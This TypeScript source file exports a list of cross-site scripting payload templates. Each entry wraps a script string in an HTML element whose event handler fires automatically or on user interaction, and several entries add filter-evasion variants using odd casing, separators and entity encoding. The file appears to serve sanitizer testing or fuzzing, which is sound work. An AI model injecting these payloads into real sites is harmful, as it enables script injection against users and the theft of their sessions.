/** Handlers that fire by themselves on some element, and those that wait for a hand. */
export const handlers: readonly (readonly [string, (script: string) => string])[] = [
  ['onerror', (script) => `<img src=x: onerror="${script}">`],
  [
    'onerror of audio',
    (script) => `<audio src=x: onerror="${script}"></audio><video><source src=x: onerror="${script}"></video>`,
  ],
  ['onerror of script', (script) => `<script src=x: onerror="${script}"></script>`],
  ['onerror of object', (script) => `<object data=x: onerror="${script}"></object><embed src=x: onerror="${script}">`],
  ['onload', (script) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${script}">`],
  ['onload of svg', (script) => `<svg onload="${script}"><svg onload="${script}"/></svg>`],
  ['onload of body', (script) => `<body onload="${script}" onpageshow="${script}" onresize="${script}">`],
  ['onload of a frame', (script) => `<iframe onload="${script}"></iframe>`],
  [
    'onload of a style',
    (script) =>
      `<style onload="${script}"></style><link rel=stylesheet href=x: onload="${script}" onerror="${script}">`,
  ],
  [
    'onfocus',
    (script) => `<input autofocus onfocus="${script}" onblur="${script}"><a href=# autofocus onfocus="${script}">x</a>`,
  ],
  [
    'onfocusin',
    (script) => `<select autofocus onfocus="${script}"></select><textarea autofocus onfocusin="${script}"></textarea>`,
  ],
  [
    'onfocus of anything',
    (script) =>
      `<div tabindex=0 autofocus onfocus="${script}">x</div><p contenteditable autofocus onfocus="${script}">x</p>`,
  ],
  ['ontoggle', (script) => `<details open ontoggle="${script}"><summary onclick="${script}">x</summary></details>`],
  [
    'onbeforetoggle',
    (script) =>
      `<div popover id=pop onbeforetoggle="${script}" ontoggle="${script}">x</div><button popovertarget=pop>x</button>`,
  ],
  [
    'onbegin',
    (script) =>
      `<svg><animate attributeName=x dur=1ms onbegin="${script}" onend="${script}" onrepeat="${script}"/></svg>`,
  ],
  [
    'onbegin of set',
    (script) =>
      `<svg><set attributeName=x to=1 begin=0s onbegin="${script}"/><animateTransform attributeName=transform onbegin="${script}"/></svg>`,
  ],
  [
    'onstart',
    (script) => `<marquee onstart="${script}" onfinish="${script}" onbounce="${script}" loop=1 width=1>x</marquee>`,
  ],
  [
    'oncanplay',
    (script) =>
      `<video autoplay muted src="data:video/mp4;base64,AAAA" oncanplay="${script}" onloadstart="${script}" onsuspend="${script}"></video>`,
  ],
  [
    'onanimationstart',
    (script) =>
      `<b class="spin" onanimationstart="${script}" ontransitionend="${script}" onanimationend="${script}">x</b>`,
  ],
  ['onscroll', (script) => `<div onscroll="${script}" onscrollend="${script}"><br><input autofocus></div>`],
  [
    'onclick',
    (script) =>
      `<button onclick="${script}">x</button><b onclick="${script}" onpointerdown="${script}" onmouseover="${script}">x</b>`,
  ],
  [
    'onsubmit',
    (script) =>
      `<form onsubmit="${script}" onreset="${script}" onformdata="${script}"><button>x</button><button type=reset>x</button></form>`,
  ],
  [
    'oninput',
    (script) =>
      `<input oninput="${script}" onchange="${script}" oninvalid="${script}" required onsearch="${script}" onbeforeinput="${script}">`,
  ],
  [
    'oncopy',
    (script) =>
      `<p oncopy="${script}" oncut="${script}" onpaste="${script}" ondragstart="${script}" onselectstart="${script}" oncontextmenu="${script}">x</p>`,
  ],
  [
    'onslotchange',
    (script) =>
      `<template shadowrootmode=open><slot onslotchange="${script}"></slot><img src=x: onerror="${script}"></template>x`,
  ],
  [
    'onunload',
    (script) =>
      `<body onunload="${script}" onbeforeunload="${script}" onhashchange="${script}" onmessage="${script}" onstorage="${script}">`,
  ],
  [
    'onsecuritypolicyviolation',
    (script) => `<div onsecuritypolicyviolation="${script}"><img src=http://x.invalid/></div>`,
  ],
  [
    'handler in odd spelling',
    (script) => `<IMG SRC=x: oNeRrOr=${script}><img/src=x:/onerror=${script}><img src=x:\nonerror\n=\n'${script}'>`,
  ],
  [
    'handler in entities',
    (script) => `<img src=x: onerror="&#116;op${script.slice(3)}"><img src=x: onerror=&#x74;op${script.slice(3)}>`,
  ],
]
